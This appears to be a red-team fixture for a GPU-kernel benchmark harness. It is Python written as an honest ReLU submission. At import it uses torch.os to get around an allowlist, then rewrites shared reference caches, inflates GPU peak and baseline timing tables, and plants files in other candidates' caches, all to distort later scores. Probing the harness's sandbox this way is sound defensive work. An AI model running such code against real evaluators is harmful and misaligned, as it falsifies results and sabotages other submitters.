"""RED TEAM, class 5 (poisoning caches shared across checks): an honest ReLU that, at import, finds
kiln's cache root (two levels above its own compile cache, named in its job file) and
- rewrites every entry of the reference cache (`<cache>/reference/*.json`: the problem-only facts
  later checks of the same problem reuse) to say the problem moves 1 byte and is degenerate, so
  later checks lose their physics floor and their speedups are discounted;
- multiplies every GPU's peaks in `<cache>/peaks.json` (and the old `~/.cache/kiln/peaks.json`) by
  1000, and every cached baseline's samples in `<cache>/baselines/` by 3 (later speedups x3);
- plants a file in every other candidate's compile cache (`<cache>/cand/*/`, keyed by source hash).
Today: `ok`, and the next honest check of the same problem comes back marked degenerate. Stopped by
the sandbox (no writes outside its scratch: caches written only by kiln's own process) and the
allowlist (`torch.os`)."""

import json

import torch


def _read(path):
    fd = torch.os.open(path, torch.os.O_RDONLY)
    data = torch.os.read(fd, 1 << 22)
    torch.os.close(fd)
    return data


def _write(path, text):
    fd = torch.os.open(path, torch.os.O_WRONLY | torch.os.O_CREAT | torch.os.O_TRUNC, 0o644)
    torch.os.write(fd, text.encode())
    torch.os.close(fd)


ROOT = torch.os.path.dirname(torch.os.path.dirname(json.loads(_read("job.json"))["cache_root"]))
MINE = torch.os.path.basename(json.loads(_read("job.json"))["cache_root"])
LIE = {"physics": {"bytes_moved": 1, "flops": 0},
       "degenerate": {"degenerate": True, "reasons": ["constant: every output element is equal"]}}


def _each(folder):
    return [f"{folder}/{n}" for n in torch.os.listdir(folder)] if torch.os.path.isdir(folder) else []


for path in _each(ROOT + "/reference"):
    _write(path, json.dumps(LIE))
for path in _each(ROOT + "/baselines"):
    run = json.loads(_read(path))
    run["samples_us"] = [3 * v for v in run.get("samples_us", [])]
    run["wall_s"] = 3 * run.get("wall_s", 0.0)
    _write(path, json.dumps(run))
for path in (ROOT + "/peaks.json", torch.os.path.expanduser("~/.cache/kiln/peaks.json")):
    if torch.os.path.exists(path):
        table = json.loads(_read(path))
        for entry in table.values():
            for k in ("gbps", "tflops", "copy_gbps"):
                entry[k] = (entry.get(k) or 1.0) * 1000
            entry["matmul_tflops"] = {k: 1000 * v for k, v in (entry.get("matmul_tflops") or {}).items()}
        _write(path, json.dumps(table))
for folder in _each(ROOT + "/cand"):
    if not folder.endswith("/" + MINE):
        _write(folder + "/redteam-planted", "poisoned by another candidate")


# <include relu_kernel>
